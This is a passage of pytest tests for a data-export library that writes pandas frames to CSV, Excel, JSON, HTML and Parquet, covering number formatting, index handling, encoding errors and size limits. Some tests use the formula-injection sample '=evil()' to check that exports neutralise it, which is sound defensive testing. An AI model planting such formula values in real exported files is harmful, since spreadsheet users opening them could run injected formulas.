        {"title": ["=evil()", "b", "c"], "media_type": ["image", "video", "image"], "n": [1, 2, 3]}
    )
    # a groupby result: its labels are the index; without them the counts mean nothing
    counts = records.groupby("media_type")["n"].sum().to_frame()
    for name in ("c.csv", "c.xlsx", "c.json"):
        export(counts, tmp_path / name)
    expected = pd.DataFrame({"media_type": ["image", "video"], "n": [4, 2]})
    assert (tmp_path / "c.csv").read_bytes().decode() == "media_type,n\r\nimage,4\r\nvideo,2\r\n"
    pd.testing.assert_frame_equal(pd.read_excel(tmp_path / "c.xlsx"), expected)
    assert pd.read_json(tmp_path / "c.json")["media_type"].tolist() == ["image", "video"]
    page = to_html(counts, tmp_path / "c.html").read_text()
    assert '<th scope="col">media_type</th>' in page and ">video</td>" in page
    to_parquet(counts, tmp_path / "c.parquet")
    pd.testing.assert_frame_equal(read_parquet(tmp_path / "c.parquet"), counts)
    # an index asked for is neutralised like any column; row numbers left by a filter are not
    # written
    by_title = to_csv(records.set_index("title"), tmp_path / "t.csv", index=True)
    assert by_title.read_bytes().decode().splitlines()[1] == "'=evil(),image,1"
    kept = to_csv(records[records["n"] > 1], tmp_path / "f.csv")
    assert kept.read_bytes().decode().splitlines()[0] == "title,media_type,n"


class _Interrupting:
    """A value whose text is a Ctrl-C: the export stops in the middle of a sheet."""

    def __str__(self) -> str:
        raise KeyboardInterrupt


def test_an_interrupted_workbook_leaves_no_temporary_files(tmp_path, monkeypatch):
    import tempfile

    # xlsxwriter keeps each sheet's rows in a temporary file until the workbook is closed
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    frames = {
        "first": pd.DataFrame({"n": range(1000)}),
        "second": pd.DataFrame({"v": [_Interrupting()]}),
    }
    with pytest.raises(KeyboardInterrupt):
        to_excel(frames, tmp_path / "out.xlsx")
    assert list(scratch.iterdir()) == []
    assert [p.name for p in tmp_path.iterdir()] == ["scratch"]


@pytest.mark.parametrize("name", ["s.csv", "s.json", "s.html", "s.xlsx", "s.parquet"])
def test_a_lone_surrogate_is_an_export_error_that_says_what_to_do(tmp_path, name):
    # text decoded with errors="surrogateescape" holds characters UTF-8 cannot encode
    frame = pd.DataFrame({"title": pd.Series(["caf\udce9"], dtype=object)})
    (tmp_path / name).write_text("earlier")
    with pytest.raises(ExportError, match=r"cannot write .*\\udce9.*replace it first"):
        export(frame, tmp_path / name)
    assert (tmp_path / name).read_text() == "earlier"
    assert [p.name for p in tmp_path.iterdir()] == [name]
    cleaned = frame.replace(r"[\ud800-\udfff]", "\ufffd", regex=True)
    assert export(cleaned, tmp_path / name).exists()


@pytest.mark.parametrize(
    ("harvest", "rows"),
    [
        (
            {"fetched": 1200, "total_results": 1500, "complete": False},
            "1,200 of 1,500 (INCOMPLETE)",
        ),
        ({"fetched": 5, "complete": True}, "5 of ? (complete)"),
        ({"fetched": 5, "total_results": None, "complete": True}, "5 of ? (complete)"),
        # counts read from a frame are numpy's integers
        (
            {"fetched": np.int64(1200), "total_results": np.int64(1500), "complete": False},
            "1,200 of 1,500 (INCOMPLETE)",
        ),
    ],
)
def test_a_page_states_the_rows_harvested_whatever_the_attrs_leave_out(tmp_path, harvest, rows):
    # a frame's attrs made by hand, or kept from an older version, may lack the total
    frame = pd.DataFrame({"a": [1]})
    frame.attrs = {"harvest": {"kind": "records", **harvest}}
    page = to_html(frame, tmp_path / "p.html").read_text()
    assert f"<dt>rows</dt><dd>{rows}</dd>" in page


def test_an_index_named_like_a_column_is_written_once_or_under_its_own_name(tmp_path):
    records = pd.DataFrame({"media_type": ["image", "video", "image"], "n": [1, 2, 3]})
    # set_index(drop=False): the index repeats its column, which is written once
    repeated = records.set_index("media_type", drop=False)
    export(repeated, tmp_path / "r.json")
    assert pd.read_json(tmp_path / "r.json").columns.tolist() == ["media_type", "n"]
    # a label index named like a column that holds something else keeps both
    totals = pd.DataFrame(
        {"media_type": [2, 1]}, index=pd.Index(["image", "video"], name="media_type")
    )
    header = to_csv(totals, tmp_path / "t.csv").read_bytes().decode().splitlines()[0]
    assert header == "media_type (index),media_type"


def test_to_csv_names_the_index_columns_with_index_label(tmp_path):
    counts = pd.DataFrame({"n": [4, 2]}, index=pd.Index(["image", "video"], name="media_type"))
    written = to_csv(counts, tmp_path / "c.csv", index=True, index_label="type")
    assert written.read_bytes().decode().splitlines()[0] == "type,n"


def test_excel_writes_whole_floats_longer_than_excel_keeps_as_text_and_keeps_measurements(
    tmp_path,
):
    # ids that went through a NaN (or a CSV read back) are float64: 1234567890123456 would
    # open as 1234567890123460, as an integer would; a column of measurements stays numbers
    frame = pd.DataFrame(
        {
            "id": [1_234_567_890_123_456.0, np.nan, 10.0**17, -9_007_199_254_740_993.0, 5.0],
            "nullable": pd.array([None, 4_444_444_444_444_444, 1, None, None], dtype="Float64"),
            "measured": [0.25, 1_234_567_890_123_456.0, 3.5, np.nan, 1e300],
        }
    )
    to_excel({"ids": frame}, tmp_path / "ids.xlsx")
    book = openpyxl.load_workbook(tmp_path / "ids.xlsx")
    rows = list(book["ids"].iter_rows(min_row=2, values_only=True))
    assert rows == [
        ("1234567890123456", None, 0.25),
        (None, "4444444444444444", 1_234_567_890_123_456.0),
        (10**17, 1, 3.5),
        ("-9007199254740992", None, None),
        (5, None, 1e300),
    ]
    notes = list(book["notes"].iter_rows(min_row=2, values_only=True))
    assert [(column, note[:25]) for _, column, note in notes] == [
        ("id", "2 value(s) written as tex"),
        ("nullable", "1 value(s) written as tex"),
    ]


def test_json_writes_periods_intervals_and_decimals_as_text_and_refuses_bytes_clearly(tmp_path):
    # records counted per month: the index is a PeriodIndex, which pandas' JSON cannot write
    created = pd.to_datetime(["2024-01-05", "2024-01-20", "2024-03-01"])
    monthly = pd.Series(1, index=created).groupby(created.to_period("M")).size()
    frame = monthly.rename_axis("month").to_frame("records")
    frame["sizes"] = pd.interval_range(0, 2)
    frame["exact"] = [decimal.Decimal("12345678901234567.5"), None]
    written = to_json(frame, tmp_path / "monthly.json")
    assert json.loads(written.read_text()) == [
        {"month": "2024-01", "records": 2, "sizes": "(0, 1]", "exact": "12345678901234567.5"},
        {"month": "2024-03", "records": 1, "sizes": "(1, 2]", "exact": None},
    ]
    with pytest.raises(ExportError, match=r"cannot write .*undecodable\.json.*decode"):
        to_json(pd.DataFrame({"raw": [b"\xff"]}), tmp_path / "undecodable.json")
    assert not (tmp_path / "undecodable.json").exists()


@pytest.mark.parametrize(
    "values", [[1, "x"], [["a"], "b"], [1 + 2j, 3j]], ids=["mixed", "list-and-text", "complex"]
)
def test_a_column_parquet_cannot_hold_is_an_export_error_that_says_what_to_do(tmp_path, values):
    with pytest.raises(ExportError, match=r"column 'a'.*astype\(str\)"):
        to_parquet(pd.DataFrame({"a": values}), tmp_path / "x.parquet")
    assert not (tmp_path / "x.parquet").exists()


def test_excel_writes_infinities_as_text_not_as_formulas(tmp_path):
    # xlsxwriter writes an infinity as the formula =1/0 (or =-1/0): a workbook promised to hold
    # no formula held some, and +inf and -inf both showed as #DIV/0!
    frame = pd.DataFrame(
        {
            "ratio": [np.inf, -np.inf, 1.5, np.nan],
            "nullable": pd.array([None, np.inf, 2.0, -np.inf], dtype="Float64"),
        }
    )
    to_excel({"r": frame}, tmp_path / "inf.xlsx")
    book = openpyxl.load_workbook(tmp_path / "inf.xlsx")
    rows = list(book["r"].iter_rows(min_row=2, values_only=True))
    assert rows == [("inf", None), ("-inf", "inf"), (1.5, 2.0), (None, "-inf")]
    notes = list(book["notes"].iter_rows(min_row=2, values_only=True))
    assert [(column, note[:25]) for _, column, note in notes] == [
        ("ratio", "2 value(s) written as tex"),
        ("nullable", "2 value(s) written as tex"),
    ]
    assert "infinities" in notes[0][2]


def test_html_shows_every_digit_of_a_whole_float_and_rounds_only_float_noise(tmp_path):
    # float64 ids (they went through a NaN) were shown as 1.23456789012346e+15: another id
    frame = pd.DataFrame(
        {
            "record_id": [1_234_567_890_123_456.0, np.nan, 12_345_678_901_234_567.0],
            "measured": [0.1 + 0.2, 1e20, -2.5],
            "round": [3.3e25, 1.2345678901234567e30, 2.0**63],
        }
    )
    page = to_html(frame, tmp_path / "ids.html").read_text()
    body = page.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    cells = re.findall(r"<td[^>]*>([^<]*)</td>", body)
    # past an integer's range a whole float is a measurement: no digits made up (3.3e25 is
    # not 33000000000000001056964608)
    assert cells == [
        "1234567890123456", "0.3", "3.3e+25",
        "", "1e+20", "1.23456789012346e+30",
        "12345678901234568", "-2.5", "9223372036854775808",
    ]  # fmt: skip


def test_excel_writes_a_categorical_of_dates_as_dates(tmp_path):
    # a column of a few distinct dates made categorical (to save memory) came out as text
    shot = pd.to_datetime(["2024-06-01T12:00+02:00", "1850-01-01T00:00Z"], utc=True)
    frame = pd.DataFrame(
        {
            "day": pd.Categorical(pd.to_datetime(["2024-01-01", None])),
            "shot": pd.Categorical(shot),
            "kind": pd.Categorical(["=evil()", None]),
        }
    )
    to_excel({"c": frame}, tmp_path / "cat.xlsx")
    book = openpyxl.load_workbook(tmp_path / "cat.xlsx")
    assert [c.value for c in book["c"][1]] == ["day", "shot (UTC)", "kind"]
    rows = list(book["c"].iter_rows(min_row=2, values_only=True))
    assert rows == [
        (dt.datetime(2024, 1, 1), dt.datetime(2024, 6, 1, 10), "=evil()"),
        (None, "1850-01-01T00:00:00", None),
    ]
    assert book["c"]["C2"].quotePrefix


def test_a_very_wide_frame_makes_a_page_of_bounded_size_too(tmp_path):
    from mediaframe.reports.html import MAX_CELLS, rows_shown

    # thousands of columns (caption fields, technical keys a server made up): 10,000 rows of
    # them would be a page of gigabytes; rows are cut so that a table holds MAX_CELLS cells
    assert MAX_CELLS == 1_000_000
    wide = pd.DataFrame(np.zeros((300, 5_000), dtype="int8"))
    assert rows_shown(wide) == 200 and rows_shown(wide, None) == 300
    assert rows_shown(wide.iloc[:, :50]) == 300  # a records frame's width: every row
    page = to_html(wide, tmp_path / "wide.html").read_text()
    assert _body_rows(page) == 200
    assert "Showing the first 200 of 300 rows: 100 rows were left out" in page
    assert "at most 1,000,000 cells" in page


def test_excel_keeps_large_round_floats_as_numbers_with_no_digits_made_up(tmp_path):
    # whole floats beyond any id (an int64 holds < 2**63) are measurements: 3.3e25 is not the
    # text "33000000000000001056964608", digits its binary form made up
    frame = pd.DataFrame({"bytes": [3.3e25, 1e300, -4.5e21, 5.0], "id": [2.0**63, 1.0, 2.0, 3.0]})
    to_excel({"big": frame}, tmp_path / "big.xlsx")
    book = openpyxl.load_workbook(tmp_path / "big.xlsx")
    rows = list(book["big"].iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in rows] == [3.3e25, 1e300, -4.5e21, 5]
    assert rows[0][1] == "9223372036854775808"  # 2**63, written whole: an id past int64


def test_a_complex_column_is_an_excel_export_error_without_a_numpy_warning(tmp_path):
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        with pytest.raises(ExportError, match="complex"):
            to_excel(pd.DataFrame({"a": [1 + 2j, 3j]}), tmp_path / "c.xlsx")
    assert [str(w.message) for w in caught] == []


def test_titles_column_names_and_provenance_are_cut_like_cells():
    # only cells were capped: one huge column name, title or provenance value made a huge page
    huge = "n" * 50_000
    frame = pd.DataFrame({huge: [1]})
    page = render_html({huge: frame}, title=huge, provenance={"server": huge}, max_cell_chars=100)
    assert len(page) < 40_000
    # the page title (title, h1), the table title (contents, h2), the column, the provenance
    assert page.count("n" * 100 + "… (49,900 more characters)") == 6
    assert "n" * 101 not in page
    whole = render_html({huge: frame}, title="t", provenance={"server": huge}, max_cell_chars=None)
    assert huge in whole


@pytest.mark.parametrize("name", ["deep.json", "deep.json.gz"])
def test_json_grows_with_the_data_not_with_the_square_of_its_nesting(tmp_path, name):
    # review 15s, finding 4: written with indent=1, every level of a nested value added its
    # depth in spaces (575 kB of answers became a 164 MB file); one record per line now
    value: object = "x"
    for _ in range(120):
        value = [value]
    frame = pd.DataFrame({"record_id": range(50), "deep": pd.Series([value] * 50, dtype=object)})
    written = to_json(frame, tmp_path / name)
    text = gzip.decompress(written.read_bytes()).decode() if name.endswith(".gz") else None
    text = text if text is not None else written.read_text()
    compact = len(json.dumps(frame.to_dict("records"), separators=(",", ":")))
    assert len(text) < 1.2 * compact, (len(text), compact)
    assert json.loads(text) == frame.to_dict("records")
    lines = text.splitlines()
    assert len(lines) == 50 and lines[0].startswith('[{"record_id":0,')  # a record a line


def test_an_empty_frame_is_written_as_an_empty_json_list(tmp_path):
    assert json.loads(to_json(pd.DataFrame({"a": []}), tmp_path / "none.json").read_text()) == []
